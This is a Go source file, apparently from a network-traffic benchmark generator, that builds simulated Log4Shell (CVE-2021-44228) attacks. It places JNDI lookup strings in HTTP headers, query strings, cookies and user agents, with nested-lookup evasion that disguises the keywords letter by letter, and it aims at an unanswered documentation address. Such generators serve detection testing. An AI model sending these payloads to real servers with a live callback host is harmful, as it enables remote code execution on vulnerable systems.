package attack

import (
	"cmp"
	"net/url"
	"strings"

	"github.com/evilbench/evilbench/generator/dialogue"
	"github.com/evilbench/evilbench/generator/draw"
	"github.com/evilbench/evilbench/generator/packet"
)

// Log4Shell sends JNDI lookup strings (CVE-2021-44228) where servers log: nothing listens at the address they name.
type Log4Shell struct {
	Web     `yaml:",inline"`
	Evasion string `yaml:"evasion" json:"evasion"` // none; nested, default, env: inner lookups take the words apart
}

func newLog4Shell() Attack {
	return &Log4Shell{Web: Web{Rate: 1, PerConn: 1, Port: 80}, Evasion: plain}
}

// Validate checks the parameters.
func (a *Log4Shell) Validate() error {
	return cmp.Or(a.Web.Validate(), among("evasion", a.Evasion, []string{plain, "nested", "default", "env"}))
}

// Evades implements Evader.
func (a *Log4Shell) Evades() string { return disguise(a.Evasion) }

// wrappers are lookups that give back the letter in the place of the asterisk.
var wrappers = map[string]string{plain: "*", "nested": "${lower:*}", "default": "${::-*}", "env": "${env:UNSET:-*}"}

// nowhere is of the documentation range (RFC 5737), where nobody answers.
const nowhere = "198.51.100.77:1389"

// Step is one connection; the places that servers log take turns.
func (a *Log4Shell) Step(k int, s *Site, r *draw.Stream) []packet.Conversation {
	return a.talk(stageExploit, k, s, r, func(i int) dialogue.HTTPExchange {
		x := dialogue.HTTPExchange{Target: "/", Status: 200, ReplyType: html, Reply: results}
		lookup := a.lookup(r)
		switch i % 6 {
		case 0:
			x.Header = "X-Api-Version: " + lookup + "\r\n"
		case 1:
			x.Header = "X-Forwarded-For: " + lookup + "\r\n"
		case 2:
			x.Target = "/?q=" + url.QueryEscape(lookup)
		case 3:
			x.Agent = lookup
		case 4:
			x.Header = "Cookie: session=" + lookup + "\r\n"
		default:
			x.Header = "Referer: " + lookup + "\r\n"
		}
		return x
	})
}

// lookup is the string that a vulnerable logger would resolve.
func (a *Log4Shell) lookup(r *draw.Stream) string {
	scheme := draw.Pick(r, []string{"ldap", "ldap", "ldap", "rmi", "dns"})
	return "${" + a.wrap("jndi") + ":" + a.wrap(scheme) + "://" + nowhere + "/" + r.Letters("abcdefghijklmnopqrstuvwxyz", 6) + "}"
}

// wrap disguises a word letter by letter.
func (a *Log4Shell) wrap(word string) string {
	var b strings.Builder
	for i := range len(word) {
		b.WriteString(strings.Replace(wrappers[a.Evasion], "*", word[i:i+1], 1))
	}
	return b.String()
}
